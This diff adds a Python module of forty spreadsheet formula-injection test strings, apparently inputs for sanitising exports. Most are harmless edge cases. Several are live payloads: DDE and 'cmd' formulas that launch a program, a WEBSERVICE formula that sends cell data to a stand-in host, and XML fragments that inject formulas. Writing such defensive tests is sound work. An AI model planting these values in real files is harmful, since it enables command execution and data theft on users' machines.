@@ -1,0 +1,48 @@
+# SPDX-FileCopyrightText: 2026 Flödesarkivet contributors
+# SPDX-License-Identifier: EUPL-1.2
+"""Forty texts that a spreadsheet could take for something to run, or that break a file's form."""
+
+from __future__ import annotations
+
+HOSTILE = (
+    '=HYPERLINK("http://x.example","klicka")',
+    "+1",
+    "-2+3",
+    "@SUM(A1)",
+    "\t=1",
+    "\r=1",
+    "\n=1+1",
+    " =1+1",
+    "\u00a0=1",
+    "\ufeff=1",
+    "\u200b=1",
+    "\u3000=1+1",
+    "＝1+1",
+    "＋1",
+    "－1",
+    "＠SUM(A1)",
+    "=cmd|' /C calc'!A0",
+    '=DDE("cmd";"/C calc";"x")',
+    '=WEBSERVICE("http://x.example/?"&A1)',
+    '=IMPORTXML("http://x.example","//a")',
+    "=1+1;=2+2",
+    '";=1+1;"',
+    '"\r\n=1+1',
+    "'=1+1",
+    "''=1+1",
+    "{=1+1}",
+    "%0A=1",
+    "=\u202e1+1",
+    "-1E5",
+    "00123",
+    "70012345678901234567",
+    "2024-01-08",
+    "1-2",
+    "TRUE",
+    "#REF!",
+    "<r><t>fet</t></r>",
+    '<r></is></c><c r="Z9"><f>1+1</f></c><c><is></r>',
+    "_x003D_1+1",
+    "]]><f>1+1</f><![CDATA[",
+    "\x00=1+1",
+)
